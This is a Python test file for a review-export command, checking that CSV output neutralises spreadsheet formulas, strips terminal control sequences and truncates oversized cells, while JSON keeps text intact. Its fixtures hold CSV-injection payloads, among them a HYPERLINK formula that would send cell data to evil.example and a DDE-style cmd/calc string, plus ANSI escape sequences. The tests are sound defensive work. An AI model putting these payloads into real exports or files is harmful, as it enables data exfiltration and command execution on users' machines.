"""`ladder export` of review text anyone can write: a CSV that no spreadsheet runs as formulas and
no terminal acts on, with no cell too long for a spreadsheet; JSON that keeps the text whole."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from db import open_db
from db.reviews import ReviewWriter
from db.store import sync_business, sync_source
from scheduler.cli import cli
from scheduler.web.export import CELL_LIMIT, csv_cell, write_export
from tests.conftest import write_config

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Xem ảnh")'
TERMINAL = "Phở ngon\x1b[2J\x07\x00 nhưng\x1b]0;pwned\x07 chờ lâu\x9b31m\x7f"
HUGE = "chờ lâu " * 131_072  # 1,048,576 characters
BODIES = {
    "formula": HYPERLINK,
    "plus": "+84 909 123 456 gọi mãi không ai nghe",
    "minus": "-2 sao vì phục vụ chậm",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "terminal": TERMINAL,
    "huge": HUGE,
    "plain": "Nhân viên thân thiện, sẽ quay lại",
}
#: What a terminal acts on: C0 controls but TAB and LF, DEL and C1.
CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


@pytest.fixture
def exported(tmp_path: Path) -> Path:
    """A config and a database whose reviews hold formulas, escape sequences and a 1 MB body."""
    config = write_config(tmp_path, {"Quán Bà Tư": ["https://ba-tu.example/reviews"]})
    with contextlib.closing(open_db(tmp_path / "ladder.db")) as db:
        business_id = sync_business(db, "Quán Bà Tư", is_self=True)
        source_id = sync_source(db, business_id, "schemaorg", "https://ba-tu.example/reviews")
        ReviewWriter(db, source_id).write(
            {
                "review_key": key,
                "business_id": business_id,
                "source_id": source_id,
                "rating": 3.0,
                "title": body[:40],
                "body": body,
                "published_at": "2026-11-01T00:00:00Z",
            }
            for key, body in BODIES.items()
        )
    return config


def export(config: Path, *arguments: str) -> str:
    result = CliRunner().invoke(cli, ["--config", str(config), "export", "reviews", *arguments])
    assert result.exit_code == 0, result.output
    return result.stdout


def cells_by_body(text: str) -> dict[str, dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(BODIES)
    return {row["review_key"]: row for row in rows}


def test_no_text_cell_of_the_csv_starts_a_formula(exported: Path) -> None:
    rows = cells_by_body(export(exported, "--format", "csv"))
    for key, row in rows.items():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (key, column, cell)
    assert rows["formula"]["body"] == "'" + HYPERLINK
    assert rows["plus"]["body"] == "'" + BODIES["plus"]
    assert rows["minus"]["body"] == "'" + BODIES["minus"]
    assert rows["at"]["body"] == "'" + BODIES["at"]
    assert rows["tab"]["body"] == "'\t=1+1"
    assert rows["cr"]["body"] == "'\n=1+1"  # a CR is a line break; the cell still cannot run
    assert rows["plain"]["body"] == BODIES["plain"]
    assert rows["plain"]["rating"] == "3.0"


def test_the_csv_holds_nothing_a_terminal_acts_on(exported: Path, tmp_path: Path) -> None:
    out = tmp_path / "reviews.csv"
    export(exported, "--out", str(out))
    raw = out.read_text(encoding="utf-8")
    assert not CONTROLS.search(raw.replace("\r\n", "\n")), CONTROLS.findall(raw)
    body = cells_by_body(raw)["terminal"]["body"]
    assert body == "Phở ngon nhưng chờ lâu"


def test_a_cell_too_long_for_a_spreadsheet_is_cut_with_a_marker(exported: Path) -> None:
    body = cells_by_body(export(exported))["huge"]["body"]
    assert len(body) == CELL_LIMIT < 32_767
    assert body.endswith("…[cut: 1,048,576 characters in all]")
    assert HUGE.startswith(body.removesuffix("…[cut: 1,048,576 characters in all]"))


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_keeps_the_text_whole_with_every_control_character_escaped(
    exported: Path, fmt: str
) -> None:
    raw = export(exported, "--format", fmt)
    assert not CONTROLS.search(raw)
    items = json.loads(raw) if fmt == "json" else [json.loads(line) for line in raw.splitlines()]
    bodies = {item["review_key"]: item["body"] for item in items}
    assert bodies == BODIES  # JSON is for tools: nothing cut, nothing quoted


def test_numbers_stay_numbers_and_only_text_is_neutralised() -> None:
    out = io.StringIO(newline="")
    rows = iter([(-1.5, "-1.5", 3, None, True, "=1+1")])
    write_export(["rating", "raw", "count", "empty", "flag", "=note"], rows, out, "csv")
    assert out.getvalue().splitlines() == [
        "rating,raw,count,empty,flag,'=note",
        "-1.5,'-1.5,3,,True,'=1+1",
    ]
    assert csv_cell(-2) == -2
    assert csv_cell("a\x1b[31mb") == "ab"
    assert csv_cell("\x07=1+1") == "'=1+1"  # the control character cannot hide the formula
